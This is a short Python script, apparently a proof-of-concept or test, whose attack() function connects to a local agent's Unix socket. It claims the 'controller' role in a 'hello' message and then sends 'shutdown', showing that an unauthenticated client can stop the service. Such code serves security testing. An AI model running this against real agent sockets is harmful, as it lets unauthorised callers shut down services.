import json
import socket
import struct

from target import STATE


def attack():
    sock = socket.socket(socket.AF_UNIX)
    sock.connect(f"{STATE}/agent.sock")
    for number, (method, params) in enumerate((("hello", {"protocol": 1, "role": "controller"}), ("shutdown", {}))):
        header = json.dumps({"kind": "request", "id": number, "method": method, "params": params}).encode()
        sock.sendall(struct.pack("!II", len(header), 0) + header)
    return sock.recv(4096)
